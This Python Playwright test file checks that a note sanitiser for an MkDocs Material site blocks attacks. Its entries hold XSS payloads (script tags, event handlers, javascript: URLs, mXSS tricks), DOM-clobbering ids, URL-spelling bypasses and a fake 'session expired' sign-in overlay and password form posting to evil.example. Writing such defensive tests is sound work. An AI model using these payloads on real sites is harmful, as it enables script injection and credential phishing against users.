"""A journal of attack entries against Material's own JavaScript and chrome, in headless Chromium.

Each entry aims at the page around it rather than at a script tag: ids and names equal to the
element ids Material's JavaScript looks up (its ``#__config`` JSON first), headings that slug to
them, Material's dialog, banner and overlay classes drawing a "session expired, sign in" box,
links and images spelled to reach another host, and the tags that change what a page loads.
Every attack page and the home page are opened with traps for script, a log of every request
(none may leave 127.0.0.1) and a check that nothing from a note covers the page. Then what the
prefix must not break: the sidebar table of contents, in-note links, footnotes, search and an
admonition's style.
"""

from __future__ import annotations

import base64
import itertools
import json
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import ConsoleMessage, Page, Request, expect

from peerlog.render.sanitize import ID_PREFIX, loads_offsite

from .browser import OFFSITE, ServedSite, Watch, search, serve
from .project import Project
from .test_sanitize import example_extensions

pytestmark = pytest.mark.browser

EVIL = "evil.example"
RUN = "window.__pwned=1"
# A 1x1 PNG: the committed screenshot an entry may show.
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
# docs/img/shot.png, from entries/attacks/<name>.md in Markdown and from its page's URL in HTML.
SHOT = "../../img/shot.png"
SHOT_URL = "../../../img/shot.png"
# Ids Material's templates and JavaScript use; test_every_theme_id_is_attacked keeps it complete.
MATERIAL_IDS = (
    "__config", "__search", "__drawer", "__toc", "__consent", "__announce", "__analytics",
    "__settings", "__outdated", "__source", "__tabs", "__palette",
    *(f"__palette_{i}" for i in range(4)),
    *(f"__nav_{i}{s}" for i in range(1, 10) for s in ("", "_label")),
)
# What Material would do with an entry's element taken for its configuration: load its search
# worker and a versions file from another host.
CONFIG = json.dumps({"base": f"//{EVIL}/", "features": ["navigation.instant"],
                     "search": f"//{EVIL}/worker.js", "translations": {},
                     "version": {"provider": "mike"}})
OVERLAY = f"""\
<div class="md-consent__overlay md-overlay" style="position:fixed;inset:0"></div>
<div class="md-dialog md-dialog--active md-consent__inner md-banner md-banner--warning">
<p class="md-typeset md-consent__controls">Your session has expired. Sign in to go on.</p>
<a class="md-button md-button--primary" href="//{EVIL}/login">Sign in</a>
</div>
"""
ATTACKS = {
    "ids": "\n".join((f'<div id="__config">{CONFIG}</div>',
                      *(f'<span id="{i}">{i}</span>' for i in MATERIAL_IDS),
                      '<input id="__search" type="checkbox" checked>', "")),
    "headings": "\n\n".join((
        "## __config", CONFIG, "## __search", "## __drawer", "## __consent",
        "## Elsewhere {#__toc}",
        "Go to [the results](#results-table) or to [the search heading](#__search).",
        *(["A paragraph to scroll past."] * 40),
        "## Results table", "The zanzibar measurements.", *(["More to scroll past."] * 40), "")),
    "names": "\n".join((
        '<a name="__config">a</a> <a name="__search" href="#__search">b</a>',
        f'<img name="__drawer" src="{SHOT_URL}" alt="named"> <form name="__config"><input '
        'name="__search"></form> <iframe name="__toc"></iframe> <embed name="__palette"> '
        '<object name="query"></object>', "")),
    "overlay": "\n".join((
        OVERLAY, '<div class="md-search__overlay md-container md-main">cover</div>', "",
        "Session expired, sign in again", "{.md-dialog .md-dialog--active}", "",
        '!!! md-dialog "Your session has expired"',
        f"    [Sign in](//{EVIL}/login){{.md-button .md-button--primary}}", "",
        '<div class="peerlog-write__message peerlog-entry-header">peerlog look-alike</div>', "")),
    "links": "\n\n".join((
        f"[Sign in](//{EVIL}/login)", f'<a href="/\\{EVIL}/b1">b1</a>',
        f'<a href="\\\\{EVIL}/b2">b2</a>', f'<a href="https:{EVIL}/b3">b3</a>',
        f'<a href=" //{EVIL}/b4">b4</a>', f'<a href="/&#9;/{EVIL}/b5">b5</a>',
        f'<a href="java&#9;script:{RUN}">j1</a>', f'<a href=" javascript:{RUN}">j2</a>',
        f'<a href="JaVaScRiPt:{RUN}">j3</a>',
        f'<a href="data:text/html,&lt;script&gt;{RUN}&lt;/script&gt;">d1</a>', "")),
    "images": "\n\n".join((
        f"![A diagram](//{EVIL}/diagram.png)", f'<img src="/\\{EVIL}/b.png" alt="backslash">',
        f'<img src="\\\\{EVIL}/c.png" alt="two backslashes">',
        f'<img src="https:{EVIL}/d.png" alt="scheme only">',
        f'<img src=" &#9;//{EVIL}/e.png" alt="tab">',
        f'<img src="https://{EVIL}/pixel.gif?reader=1" width="1" height="1">',
        f'<img src="//{EVIL}/x.png" onerror="{RUN}" alt="with a handler">',
        f"![A screenshot]({SHOT})", f'<img srcset="//{EVIL}/s.png 1x" alt="srcset">',
        f'<picture><source srcset="//{EVIL}/p.png"><img src="{SHOT_URL}" alt="picture"></picture>',
        f'<video poster="//{EVIL}/v.png"></video>',
        f'<div style="background:url(//{EVIL}/bg.png)">background</div>',
        f'<table background="//{EVIL}/t.png"><tr><td background="//{EVIL}/td.png">t</td></tr>'
        "</table>", f'<input type="image" src="//{EVIL}/i.png">',
        f'<link rel="preload" href="//{EVIL}/l.png" as="image">', "")),
    "active": "\n\n".join((
        f"<script>{RUN}</script>",
        f'<form action="//{EVIL}/login" method="post"><input name="password" type="password">'
        "<button>Sign in</button></form>",
        f'<svg onload="{RUN}"><a href="javascript:{RUN}"><text>svg</text></a>'
        f'<image href="//{EVIL}/svg.png"/></svg>',
        f"<math><mtext><table><mglyph><style><img src=//{EVIL}/m.png onerror={RUN}>"
        "</style></mglyph></table></mtext></math>",
        f'<base href="//{EVIL}/">', f'<meta http-equiv="refresh" content="0;url=//{EVIL}/">',
        f'<object data="//{EVIL}/o.swf"></object>', f'<iframe src="//{EVIL}/"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
        f'<embed src="//{EVIL}/e">', f"<style>@import url(//{EVIL}/s.css);</style>",
        f'<link rel="stylesheet" href="//{EVIL}/l.css">',
        f'<details open ontoggle="{RUN}"><summary>s</summary>x</details>',
        f'<noscript><p title="</noscript><img src=//{EVIL}/n.png onerror={RUN}>"></noscript>',
        f"<template><img src=//{EVIL}/t.png></template>", "")),
    "anchors": "\n\n".join((
        '!!! tip "Keep this"', "    An allowed admonition, styled.",
        "A claim with a footnote[^1].", *(["Filler to scroll past."] * 30), "## Heading one",
        *(["Filler to scroll past."] * 30), "## Heading two",
        "Back to [heading one](#heading-one).", *(["Filler to scroll past."] * 30),
        "[^1]: The footnote.", "")),
}
THEME = {"name": "material", "font": False}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedSite]:
    project = Project(tmp_path_factory.mktemp("attacks") / "kb")
    project.write("docs/img/shot.png", PNG)
    for name, body in ATTACKS.items():
        project.entry(f"attacks/{name}.md", body, title=f"Attack: {name}", date="2026-02-01",
                      author="mallory", tags=["attack"])
    # A second theme and extensions list replace those tests/project.py writes.
    project.extra_config = yaml.safe_dump({"theme": THEME,
                                           "markdown_extensions": example_extensions()})
    build = project.build()
    assert build.code == 0, build.log
    with serve(build.site) as url:
        yield ServedSite(build.site, url, [f"entries/attacks/{name}/" for name in ATTACKS])


@dataclass
class Visit:
    """Everything one tab did that a note must never cause: script run (dialogs, ``__pwned``),
    script errors, requests to another host."""

    page: Page
    watch: Watch = field(init=False)
    errors: list[str] = field(default_factory=list)
    offsite: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.watch = Watch(self.page.context)
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.errors.append(f"pageerror: {error}"))
        self.page.on("request", self._request)

    def _console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(f"console: {message.text}")

    def _request(self, request: Request) -> None:
        # data: URLs are the theme's own inline icons; they never leave the machine.
        if OFFSITE.match(request.url) and not request.url.startswith("data:"):
            self.offsite.append(request.url)

    def findings(self) -> list[str]:
        return [*self.watch.hits(self.page), *self.errors, *self.offsite]


# Whatever a note's elements may look like, they stay in the notes' box: none is fixed or sticky
# or larger than the window, and wherever the window shows something from a note, that point
# lies inside the notes. Material's header stays on top. (Material's script wraps tables in
# scrolling boxes with negative margins; those wrappers are its own.)
OVERLAID = """() => {
  const notes = document.querySelector(".peerlog-notes");
  const box = notes.getBoundingClientRect();
  const content = document.querySelector(".md-content").getBoundingClientRect();
  const name = el => el.tagName.toLowerCase() + (el.getAttribute("class") ? "." +
    el.getAttribute("class").trim().split(/\\s+/).join(".") : "");
  const found = [];
  if (box.left < content.left - 1 || box.right > content.right + 1) found.push("notes outside content");
  for (const el of notes.querySelectorAll("*")) {
    const style = getComputedStyle(el), r = el.getBoundingClientRect();
    if (style.position === "fixed" || style.position === "sticky") found.push(`${name(el)} is ${style.position}`);
    if (r.width > innerWidth || r.height > innerHeight) found.push(`${name(el)} is ${r.width}x${r.height}`);
    const wrapper = el.matches(".md-typeset__scrollwrap, .md-typeset__table");
    if (!wrapper && r.width > 0 && (r.left < box.left - 1 || r.right > box.right + 1)) found.push(`${name(el)} sticks out`);
  }
  for (let x = 5; x < innerWidth; x += 60) for (let y = 5; y < innerHeight; y += 60) {
    const el = document.elementFromPoint(x, y);
    const inside = x >= box.left && x <= box.right && y >= box.top && y <= box.bottom;
    if (el && notes.contains(el) && !inside) found.push(`${name(el)} covers ${x},${y}`);
  }
  const top = document.elementFromPoint(innerWidth / 2, 5);
  if (!top || !top.closest(".md-header")) found.push(`header covered by ${top && name(top)}`);
  return found;
}"""


def overlaid(page: Page) -> list[str]:
    """:data:`OVERLAID` at the top of the page, with the notes in view, and at the bottom."""
    found: list[str] = page.evaluate(OVERLAID)
    page.locator(".peerlog-notes").scroll_into_view_if_needed()
    found += page.evaluate(OVERLAID)
    page.evaluate("() => window.scrollTo(0, document.body.scrollHeight)")
    return found + page.evaluate(OVERLAID)


def test_every_theme_id_is_attacked_and_stays_unique(site: ServedSite) -> None:
    """Every id Material put on an attack page is one the ids entry takes, and each occurs once
    on the page: the entry's copies all carry the prefix."""
    for rel in site.pages:
        html = (site.root / rel / "index.html").read_text(encoding="utf-8")
        ids = Counter(re.findall(r' id="([^"]*)"', html))
        notes = html[html.index('class="peerlog-notes"'):html.index('class="peerlog-confirmations"')]
        theirs = {i for i in ids if i.startswith("__")}
        assert "__config" in theirs and theirs <= set(MATERIAL_IDS), rel
        assert [i for i in theirs if ids[i] > 1] == [], rel
        assert all(i.startswith(ID_PREFIX) for i in re.findall(r' (?:id|name)="([^"]*)"', notes))
    notes_of_ids = (site.root / site.pages[0] / "index.html").read_text(encoding="utf-8")
    assert notes_of_ids.count(f'id="{ID_PREFIX}__') == len(MATERIAL_IDS) + 1


def test_no_script_runs_no_request_leaves_nothing_covers_the_page(page: Page, site: ServedSite) -> None:
    visit = Visit(page)
    for rel in ["", *site.pages]:
        response = page.goto(site.url + rel, wait_until="load")
        assert response is not None and response.ok, rel
        page.mouse.move(700, 450)
        covered = overlaid(page) if rel else []
        page.wait_for_timeout(300)  # lazy images in view, Material's workers started
        assert (covered, visit.findings()) == ([], []), rel


def test_the_checks_catch_what_they_look_for(page: Page, site: ServedSite) -> None:
    """The controls: the overlay unsanitised, an image from another host and a payload, put
    into the notes by a script, are each caught."""
    visit = Visit(page)
    page.goto(site.url + "entries/attacks/overlay/")
    assert overlaid(page) == []
    page.evaluate("html => document.querySelector('.peerlog-notes').insertAdjacentHTML("
                  "'afterbegin', html)", OVERLAY)
    found = overlaid(page)
    assert any("is fixed" in f for f in found) and any("covers" in f for f in found), found
    assert any("header covered" in f for f in found), found
    page.evaluate(f"() => document.body.insertAdjacentHTML('beforeend', "
                  f"'<img src=\"//{EVIL}/caught.png\" onerror=\"{RUN}\">')")
    page.wait_for_function("() => window.__hits.length > 0")
    findings = visit.findings()
    assert f"http://{EVIL}/caught.png" in findings and any("__pwned=1" in f for f in findings)


def test_sidebar_contents_jump_to_their_headings(page: Page, site: ServedSite) -> None:
    page.goto(site.url + "entries/attacks/headings/")
    toc = page.locator(".md-sidebar--secondary .md-nav__link")
    assert toc.all_inner_texts() == ["__config", "__search", "__drawer", "__consent",
                                     "Elsewhere", "Results table"]
    assert toc.evaluate_all("links => links.map(a => a.hash)") == [
        f"#{ID_PREFIX}{i}" for i in ("__config", "__search", "__drawer", "__consent", "__toc",
                                     "results-table")]
    page.locator(".md-sidebar--secondary").get_by_role("link", name="Results table").click()
    assert landed(page) == f"{ID_PREFIX}results-table"
    page.evaluate("() => window.scrollTo(0, 0)")
    permalink = page.locator(f"#{ID_PREFIX}__consent .headerlink")
    permalink.hover()
    permalink.click()
    assert landed(page) == f"{ID_PREFIX}__consent"


def landed(page: Page) -> str:
    """The id the URL's fragment names, once that element is scrolled into the window."""
    page.wait_for_function("""() => {
      const el = document.getElementById(decodeURIComponent(location.hash.slice(1)));
      const top = el && el.getBoundingClientRect().top;
      return el && top > -1 && top < innerHeight;
    }""")
    target: str = page.evaluate("() => document.getElementById("
                                "decodeURIComponent(location.hash.slice(1))).id")
    return target


def test_in_note_links_and_footnotes_land(page: Page, site: ServedSite) -> None:
    page.goto(site.url + "entries/attacks/headings/")
    page.locator(".peerlog-notes").get_by_role("link", name="the results").click()
    assert landed(page) == f"{ID_PREFIX}results-table"
    page.goto(site.url + "entries/attacks/anchors/")
    notes = page.locator(".peerlog-notes")
    notes.get_by_role("link", name="heading one").click()
    assert landed(page) == f"{ID_PREFIX}heading-one"
    notes.locator(".footnote-ref").click()
    assert landed(page) == f"{ID_PREFIX}fn:1"
    notes.locator(".footnote-backref").click()
    assert landed(page) == f"{ID_PREFIX}fnref:1"


def test_search_works_beside_a_fake_config(page: Page, site: ServedSite) -> None:
    """The ids entry holds a ``__config`` with a search worker elsewhere: search still runs
    Material's own worker, and a section result opens at its prefixed heading."""
    visit = Visit(page)
    with serve(site.root, search=True) as url:
        page.goto(url + "entries/attacks/ids/")
        assert search(page, "zanzibar") == ["Attack: headings"]
        section = page.locator(".md-search-result__item a").filter(has_text="Results table")
        assert (section.get_attribute("href") or "").endswith(f"#{ID_PREFIX}results-table")
        section.click()
        assert landed(page) == f"{ID_PREFIX}results-table"
        # The page landed on fetches on (its search worker's index): stopping the server
        # under those requests would reset them, an error of the test's making.
        page.wait_for_load_state("networkidle")
    assert visit.findings() == []


def test_allowed_admonition_keeps_its_look(page: Page, site: ServedSite) -> None:
    page.goto(site.url + "entries/attacks/anchors/")
    tip = page.locator(".peerlog-notes .admonition.tip")
    expect(tip.locator(".admonition-title")).to_have_text("Keep this")
    assert tip.evaluate("el => getComputedStyle(el).borderLeftColor") == "rgb(0, 191, 165)"
    page.goto(site.url + "entries/attacks/overlay/")
    admonition = page.locator(".peerlog-notes .admonition")
    expect(admonition.locator(".admonition-title")).to_have_text("Your session has expired")
    assert admonition.get_attribute("class") == "admonition"


def test_links_to_other_hosts_are_ordinary_links(page: Page, site: ServedSite) -> None:
    page.goto(site.url + "entries/attacks/links/")
    links = page.locator(".peerlog-notes a").evaluate_all("""links => links.map(a => ({
      text: a.textContent, href: a.getAttribute("href"), host: a.host, protocol: a.protocol,
      rel: a.rel,
      shown: a.getBoundingClientRect().width > 0, position: getComputedStyle(a).position,
      like_text: getComputedStyle(a).color === getComputedStyle(a.closest('p')).color}))""")
    away = {link["text"]: link for link in links if link["host"] == EVIL}
    assert sorted(away) == ["Sign in", "b1", "b2", "b3", "b4", "b5"]
    for link in away.values():
        assert link["rel"] == "noopener noreferrer nofollow" and link["shown"], link
        assert link["position"] == "static" and not link["like_text"], link
    assert [link for link in links if link["href"] is not None
            and link["protocol"] not in ("http:", "https:")] == []
    assert sorted(link["text"] for link in links if link["href"] is None) == ["d1", "j1", "j2", "j3"]


def test_screenshot_shows_remote_images_become_their_text(page: Page, site: ServedSite) -> None:
    visit = Visit(page)
    page.goto(site.url + "entries/attacks/images/")
    notes = page.locator(".peerlog-notes")
    images = notes.locator("img")
    expect(images).to_have_count(2)
    for i in range(2):
        images.nth(i).scroll_into_view_if_needed()
        assert images.nth(i).evaluate("img => img.complete && img.naturalWidth") == 1
        assert images.nth(i).get_attribute("referrerpolicy") == "no-referrer"
    text = notes.inner_text()
    for alt in ("A diagram", "backslash", "two backslashes", "scheme only", "tab",
                "with a handler", "srcset"):
        assert alt in text
    assert visit.findings() == []


SPELLINGS = sorted({
    f"{lead}{scheme}{first}{gap}{second}{EVIL}/x.png"
    for lead, scheme, first, gap, second in itertools.product(
        ["", " ", "\t", "\x01", "\n", "\x00"], ["", "http:", "HTTPS:", "ftp:", "x:"],
        ["", "/", "\\"], ["", "\t", "\n", " "], ["/", "\\", ""])
})


def test_offsite_agrees_with_chromium(page: Page, site: ServedSite) -> None:
    """Every spelling Chromium resolves to another host, from a page of the site, is one the
    sanitiser counts as off-site (it may count more: any scheme at all)."""
    page.goto(site.url)
    hosts: list[Any] = page.evaluate(
        "urls => urls.map(u => { try { return new URL(u, location.href).host } "
        "catch (e) { return null } })", SPELLINGS)
    here = site.url.split("/")[2]
    away = [url for url, host in zip(SPELLINGS, hosts, strict=True) if host not in (here, None)]
    assert len(away) > 300
    assert [url for url in away if not loads_offsite(url)] == []
    assert sum(host == here for host in hosts) > 50


def test_example_site_calls_no_other_host(page: Page, example_url: str,
                                          example_site: Path) -> None:
    visit = Visit(page)
    entry = next(example_site.glob("entries/*/*/index.html")).parent.relative_to(example_site)
    for rel in ("", f"{entry.as_posix()}/"):
        page.goto(example_url + rel, wait_until="load")
        page.wait_for_timeout(300)
    assert visit.offsite == [] and visit.errors == []
